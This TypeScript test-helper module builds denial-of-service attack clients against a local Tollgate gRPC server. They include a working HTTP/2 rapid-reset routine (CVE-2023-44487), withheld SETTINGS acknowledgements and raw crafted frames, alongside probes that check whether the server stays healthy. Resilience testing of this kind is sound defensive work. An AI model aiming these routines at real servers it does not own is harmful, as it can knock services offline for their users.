/**
 * Tools of the transport attack suites (rapid reset, header lists, unfinished
 * streams, slow connections): raw node:http2 / node:net clients that behave
 * as no honest client would, the server's open descriptors and memory from
 * /proc, its metrics, and a check that every door still answers afterwards.
 * Everything talks to 127.0.0.1 only, and every wait is bounded.
 */
import { readdirSync, readFileSync } from "node:fs";
import { type ClientHttp2Session, type ClientHttp2Stream, connect, constants } from "node:http2";
import { connect as netConnect, type Socket } from "node:net";
import { Duplex } from "node:stream";
import { create, toBinary } from "@bufbuild/protobuf";
import { AuthorizeRequestSchema } from "../../src/gen/tollgate/v1/tollgate_service_pb.js";
import type { TollgateProcess } from "../helpers/tollgate-process.js";
import { grpcFrame, rawGrpc, sleep } from "./support.js";

export const AUTHORIZE = "/tollgate.v1.TollgateService/Authorize";
/** An Authorize request with a malformed key: answered from memory, no store call. */
export const AUTHORIZE_BODY = Buffer.from(
  toBinary(AuthorizeRequestSchema, create(AuthorizeRequestSchema, { apiKey: "tg_live_x" })),
);
const { NGHTTP2_CANCEL } = constants;

/** Open file descriptors of a process (Linux /proc). */
export function openFds(pid: number): number {
  return readdirSync(`/proc/${pid}/fd`).length;
}

/** Resident set size now and at its peak so far (VmHWM), kB; 0 when the process is gone. */
export function memoryKb(pid: number): { rss: number; peak: number } {
  let status = "";
  try {
    status = readFileSync(`/proc/${pid}/status`, "utf8");
  } catch {
    // The process exited: that is the finding, reported as 0.
  }
  const kb = (field: string) => Number(new RegExp(`${field}:\\s+(\\d+) kB`).exec(status)?.[1] ?? 0);
  return { rss: kb("VmRSS"), peak: kb("VmHWM") };
}

/** The sum of a metric's samples on the admin port whose labels include `labels`; 0 if none. */
export async function metricValue(
  proc: TollgateProcess,
  name: string,
  labels: Record<string, string> = {},
): Promise<number> {
  const text = await (
    await fetch(`http://127.0.0.1:${proc.adminPort}/metrics`, { signal: AbortSignal.timeout(5000) })
  ).text();
  let sum = 0;
  for (const line of text.split("\n")) {
    if (!line.startsWith(`${name}{`) && !line.startsWith(`${name} `)) continue;
    const want = Object.entries(labels).every(([k, v]) => line.includes(`${k}="${v}"`));
    if (want) sum += Number(line.slice(line.lastIndexOf(" ") + 1));
  }
  return sum;
}

/**
 * Waits (≤ 5 s) until nothing is held in flight any more — no request, no
 * body byte — and returns what is still held: an attack must leave the
 * shared budget as it found it, or the refusals it causes would outlive it.
 */
export async function heldInFlight(
  proc: TollgateProcess,
): Promise<{ requests: number; bodyBytes: number }> {
  const read = async () => ({
    requests: await metricValue(proc, "tollgate_transport_inflight_requests"),
    bodyBytes: await metricValue(proc, "tollgate_transport_inflight_body_bytes"),
  });
  const deadline = Date.now() + 5000;
  for (;;) {
    const held = await read();
    if ((held.requests === 0 && held.bodyBytes === 0) || Date.now() > deadline) return held;
    await sleep(100);
  }
}

/**
 * Asks every door of the server one question, each on a fresh connection and
 * bounded by 5 s: gRPC on the main port (grpc-js), Connect over HTTP/1.1 on
 * both ports, gRPC over h2c on the HTTP port (connect-node), and /readyz.
 * Each entry is "ok" or what went wrong, so a test can compare the whole map.
 */
export async function doorsAnswer(proc: TollgateProcess): Promise<Record<string, string>> {
  const grpc = async (url: string) => {
    const r = await rawGrpc(url, AUTHORIZE, grpcFrame(AUTHORIZE_BODY), {}, 5000);
    return r.grpcStatus === 0 ? "ok" : `grpc-status ${r.grpcStatus}`;
  };
  const connectH1 = async (url: string) => {
    const res = await fetch(`${url}${AUTHORIZE}`, {
      method: "POST",
      headers: { "content-type": "application/json", connection: "close" },
      body: '{"apiKey":"tg_live_x"}',
      signal: AbortSignal.timeout(5000),
    });
    await res.text();
    return res.status === 200 ? "ok" : `HTTP ${res.status}`;
  };
  const readyz = async () => {
    const res = await fetch(`http://127.0.0.1:${proc.adminPort}/readyz`, {
      signal: AbortSignal.timeout(5000),
    });
    await res.text();
    return res.status === 200 ? "ok" : `HTTP ${res.status}`;
  };
  const doors: Record<string, () => Promise<string>> = {
    "main grpc": () => grpc(proc.url),
    "main connect http/1.1": () => connectH1(proc.url),
    "http connect http/1.1": () => connectH1(proc.httpUrl),
    "http grpc h2c": () => grpc(proc.httpUrl),
    "admin readyz": readyz,
  };
  const out: Record<string, string> = {};
  for (const [name, ask] of Object.entries(doors)) {
    out[name] = await ask().catch((err: Error) => `failed: ${err.message}`);
  }
  return out;
}

/** Every door answering, as doorsAnswer reports it. */
export const ALL_DOORS_OK = {
  "main grpc": "ok",
  "main connect http/1.1": "ok",
  "http connect http/1.1": "ok",
  "http grpc h2c": "ok",
  "admin readyz": "ok",
};

/** Options of an attacking HTTP/2 session. */
export interface AttackSessionOptions {
  /** Never acknowledge the server's SETTINGS (its limits then never take effect). */
  withholdSettingsAck?: boolean;
}

/** An HTTP/2 client session over a TCP connection the test keeps watching. */
export interface AttackSession {
  session: ClientHttp2Session;
  /** The TCP connection; outlives the session until `leave()`. */
  socket: Socket;
  /** GOAWAY code received, or undefined. */
  goaway(): number | undefined;
  /** Last stream id the server said it processed in its GOAWAY, or undefined. */
  goawayLastStreamId(): number | undefined;
  /** Whether the server closed (or reset) the TCP connection. */
  closedByServer(): boolean;
  /** Leaves as an attacker does: destroys the client's side without a goodbye. */
  leave(): void;
}

/**
 * An HTTP/2 client session to 127.0.0.1:`port` that never throws on server
 * resets, with send limits large enough for oversized header lists. The
 * session runs over a JS duplex, so the TCP connection stays open (and
 * watched) when the client session gives up after a GOAWAY: whether the
 * *server* closes it is what the attack tests ask.
 */
export async function attackSession(
  port: number,
  o: AttackSessionOptions = {},
): Promise<AttackSession> {
  const socket = netConnect({ port, host: "127.0.0.1" });
  await new Promise<void>((resolve, reject) => {
    socket.once("connect", resolve);
    socket.once("error", reject);
  });
  let closedByServer = false;
  let leaving = false;
  const serverClosed = () => {
    if (!leaving) closedByServer = true;
  };
  socket.on("end", serverClosed);
  socket.on("error", serverClosed);
  socket.on("close", serverClosed);
  const session = connect(`http://127.0.0.1:${port}`, {
    createConnection: () => frameFilter(socket, o.withholdSettingsAck === true),
    maxSendHeaderBlockLength: 1 << 24,
    maxHeaderListPairs: 4096,
    maxSessionMemory: 1000,
  });
  let goaway: number | undefined;
  let lastStreamId: number | undefined;
  session.on("goaway", (code, last) => {
    goaway = code;
    lastStreamId = last;
  });
  session.on("error", () => {});
  return {
    session,
    socket,
    goaway: () => goaway,
    goawayLastStreamId: () => lastStreamId,
    closedByServer: () => closedByServer,
    leave() {
      leaving = true;
      session.destroy();
      socket.destroy();
    },
  };
}

/**
 * A duplex over `socket` that forwards every outgoing HTTP/2 frame — except
 * SETTINGS acknowledgements when `dropSettingsAck`, so the server keeps
 * waiting for one. Destroying it leaves the socket open.
 */
function frameFilter(socket: Socket, dropSettingsAck: boolean): Duplex {
  let pending = Buffer.alloc(0);
  let prefaceLeft = 24;
  const d = new Duplex({
    read() {
      socket.resume();
    },
    write(chunk: Buffer, _enc, cb) {
      if (!dropSettingsAck) {
        if (socket.writable) socket.write(chunk, () => cb());
        else cb();
        return;
      }
      pending = Buffer.concat([pending, chunk]);
      const out: Buffer[] = [];
      if (prefaceLeft > 0) {
        const n = Math.min(prefaceLeft, pending.length);
        out.push(pending.subarray(0, n));
        pending = pending.subarray(n);
        prefaceLeft -= n;
      }
      while (prefaceLeft === 0 && pending.length >= 9) {
        const len = pending.readUIntBE(0, 3);
        if (pending.length < 9 + len) break;
        const frame = pending.subarray(0, 9 + len);
        pending = pending.subarray(9 + len);
        const isSettingsAck = frame[3] === 0x4 && ((frame[4] ?? 0) & 0x1) === 1;
        if (!isSettingsAck) out.push(frame);
      }
      if (out.length === 0 || !socket.writable) cb();
      else socket.write(Buffer.concat(out), () => cb());
    },
    final(cb) {
      cb();
    },
    destroy(err, cb) {
      cb(err);
    },
  });
  socket.on("data", (c: Buffer) => {
    if (!d.destroyed && !d.push(c)) socket.pause();
  });
  socket.on("end", () => {
    if (!d.destroyed) d.push(null);
  });
  return d;
}

/** How a stream opened by an attack ended (or "open" when it had not). */
export interface StreamOutcome {
  status?: number;
  /** RST_STREAM code, when the stream was reset. */
  rstCode?: number;
  state: "open" | "answered" | "reset";
}

/**
 * Opens a request stream and tracks how it ends. `end`: send END_STREAM with
 * the headers (no body); otherwise the request body never comes.
 */
export function openStream(
  session: ClientHttp2Session,
  headers: Record<string, string | string[]>,
  end = false,
): { stream: ClientHttp2Stream; outcome: StreamOutcome } {
  const outcome: StreamOutcome = { state: "open" };
  const stream = session.request(
    { ":method": "POST", ":path": AUTHORIZE, ...headers },
    {
      endStream: end,
    },
  );
  stream.on("response", (h) => {
    outcome.status = Number(h[":status"]);
  });
  stream.on("error", () => {});
  stream.on("data", () => {});
  stream.on("close", () => {
    if (stream.rstCode !== undefined && stream.rstCode !== constants.NGHTTP2_NO_ERROR) {
      outcome.rstCode = stream.rstCode;
      outcome.state = outcome.status === undefined ? "reset" : "answered";
    } else outcome.state = "answered";
  });
  return { stream, outcome };
}

/**
 * The rapid-reset attack (CVE-2023-44487) on one connection: opens up to
 * `streams` gRPC requests and cancels each at once (HEADERS then RST_STREAM),
 * yielding every 50 streams. Stops early when the server sends GOAWAY, waits
 * up to `lingerMs` for the server to close the connection, then leaves.
 * `processed`: the streams the server said (in its GOAWAY) it had seen.
 */
export async function rapidReset(
  port: number,
  streams: number,
  lingerMs = 3000,
): Promise<{ goaway?: number; processed?: number; opened: number; closedByServer: boolean }> {
  const a = await attackSession(port);
  let opened = 0;
  for (; opened < streams && a.goaway() === undefined && !a.session.destroyed; opened++) {
    try {
      const s = a.session.request({
        ":method": "POST",
        ":path": AUTHORIZE,
        "content-type": "application/grpc",
        te: "trailers",
      });
      s.on("error", () => {});
      s.close(NGHTTP2_CANCEL);
    } catch {
      break; // the session was closed under us
    }
    if (opened % 50 === 49) await new Promise((r) => setImmediate(r));
  }
  await within(lingerMs, () => a.closedByServer());
  const closedByServer = a.closedByServer();
  a.leave();
  const last = a.goawayLastStreamId();
  return {
    goaway: a.goaway(),
    ...(last !== undefined && { processed: (last + 1) / 2 }),
    opened,
    closedByServer,
  };
}

/** Resolves true once `probe` holds, false after `ms`; polls every 50 ms. */
export async function within(ms: number, probe: () => boolean): Promise<boolean> {
  const deadline = Date.now() + ms;
  while (!probe()) {
    if (Date.now() > deadline) return false;
    await sleep(50);
  }
  return true;
}

/** A raw TCP connection to 127.0.0.1:`port`, with a flag set when the server closes it. */
export async function rawConnection(port: number): Promise<{ socket: Socket; closed(): boolean }> {
  const socket = netConnect({ port, host: "127.0.0.1" });
  let closed = false;
  socket.on("close", () => {
    closed = true;
  });
  socket.on("error", () => {});
  socket.on("data", () => {});
  await new Promise<void>((resolve) => {
    socket.once("connect", resolve);
    socket.once("close", resolve);
  });
  return { socket, closed: () => closed };
}

/** An HTTP/2 frame: 9-byte header (length, type, flags, stream id), then the payload. */
export function h2frame(
  type: number,
  flags: number,
  streamId: number,
  payload = Buffer.alloc(0),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/** An RST_STREAM frame for `streamId` with error `code`. */
export function rstStreamFrame(streamId: number, code: number): Buffer {
  const p = Buffer.alloc(4);
  p.writeUInt32BE(code);
  return h2frame(0x3, 0, streamId, p);
}

/**
 * HPACK for `GET /` to `x` with only static-table entries and literals:
 * :method GET (index 2), :scheme http (6), :path / (4), :authority "x".
 */
export const HPACK_GET = Buffer.from([0x82, 0x86, 0x84, 0x41, 0x01, 0x78]);

/**
 * A hand-written HTTP/2 client over a raw TCP connection: sends the preface,
 * an empty SETTINGS and the ACK of the server's, answers PINGs (so it looks
 * alive), and records the frame types it receives and any GOAWAY code.
 */
export async function rawH2(port: number): Promise<{
  write(b: Buffer): void;
  goaway(): number | undefined;
  frameTypes: number[];
  closed(): boolean;
  leave(): void;
}> {
  const c = await rawConnection(port);
  const frameTypes: number[] = [];
  let goaway: number | undefined;
  let pending = Buffer.alloc(0);
  c.socket.on("data", (d: Buffer) => {
    pending = Buffer.concat([pending, d]);
    while (pending.length >= 9) {
      const len = pending.readUIntBE(0, 3);
      if (pending.length < 9 + len) break;
      const type = pending[3] ?? 0;
      const flags = pending[4] ?? 0;
      frameTypes.push(type);
      if (type === 0x7) goaway = pending.readUInt32BE(13);
      if (type === 0x6 && (flags & 1) === 0 && !c.closed()) {
        c.socket.write(h2frame(0x6, 1, 0, pending.subarray(9, 9 + len)));
      }
      pending = pending.subarray(9 + len);
    }
  });
  const write = (b: Buffer) => {
    if (!c.closed()) c.socket.write(b);
  };
  write(
    Buffer.concat([
      Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
      h2frame(0x4, 0, 0),
      h2frame(0x4, 1, 0),
    ]),
  );
  return {
    write,
    goaway: () => goaway,
    frameTypes,
    closed: c.closed,
    leave: () => c.socket.destroy(),
  };
}
